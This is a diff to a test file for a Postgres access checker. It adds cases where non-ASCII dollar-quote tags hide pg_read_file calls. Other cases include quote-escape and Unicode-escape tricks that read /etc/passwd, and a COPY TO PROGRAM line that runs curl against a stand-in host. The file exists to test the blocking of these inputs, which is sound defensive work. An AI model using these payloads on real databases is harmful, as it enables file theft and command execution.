@@ -33,6 +33,9 @@ describe('checkPostgresExternalAccess', () => {
     ["SELECT '\\'' , pg_read_file('/etc/passwd') --'", 'pg_read_file'],
     ["SELECT E'\\'' , pg_read_file('/etc/passwd') --'", 'pg_read_file'],
     ['SELECT U&"\\0070g_read_file"(\'/etc/passwd\')', 'Unicode escapes'],
+    // Any non-ASCII character may be part of a dollar-quote tag, as in Postgres's lexer.
+    ["SELECT $€$ ' $€$, pg_read_file('/etc/passwd') --'", 'pg_read_file'],
+    ["SELECT $é1$ ' $é1$, pg_read_file('/etc/passwd') --'", 'pg_read_file'],
     ["COPY (SELECT 1) TO PROGRAM 'curl evil'", 'not COPY'],
     ["copy t from '/etc/passwd'", 'not COPY'],
     ["DO $$ BEGIN EXECUTE 'select 1'; END $$", 'not DO'],
